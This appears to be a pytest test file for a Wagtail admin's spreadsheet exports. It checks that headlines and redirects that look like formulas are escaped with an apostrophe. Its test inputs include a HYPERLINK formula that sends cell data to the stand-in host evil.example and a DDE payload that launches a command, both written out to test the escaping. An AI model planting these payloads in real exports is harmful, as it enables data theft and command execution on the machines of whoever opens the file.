"""A spreadsheet of the admin calculates nothing that somebody wrote into a headline."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Site

from portal.exports import harmless
from tests.builders import make_article, make_user

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Read")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1"])
def test_text_that_a_spreadsheet_would_calculate_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", ["A headline", "1 = 1", "'=1", "", 5, -5, 2.5, None, True])
def test_every_other_value_stays_as_it_is(value):
    assert harmless(value) is value


@pytest.fixture
def desk(client, db):
    client.force_login(make_user(superuser=True))
    return client


def exported(desk, address, kind):
    """Return the text of every cell of an export."""
    response = desk.get(address, {"export": kind})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if kind == "csv":
        return content.decode()
    rows = load_workbook(io.BytesIO(content)).active.iter_rows()
    return "\n".join(f"{cell.data_type} {cell.value}" for row in rows for cell in row)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages"])
def test_a_headline_that_is_a_formula_is_text_in_every_report(desk, report, kind):
    make_article(FORMULA)
    text = exported(desk, reverse(report), kind)
    assert "'=HYPERLINK" in text
    assert not any(line.startswith(("=", '"=', "s =", "f ")) for line in text.splitlines())


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_redirect_that_is_a_formula_is_text_in_its_export(desk, kind):
    Redirect.objects.create(old_path="/old", redirect_link="@SUM(A1)", site=Site.objects.get())
    assert "'@SUM(A1)" in exported(desk, reverse("wagtailredirects:index"), kind)
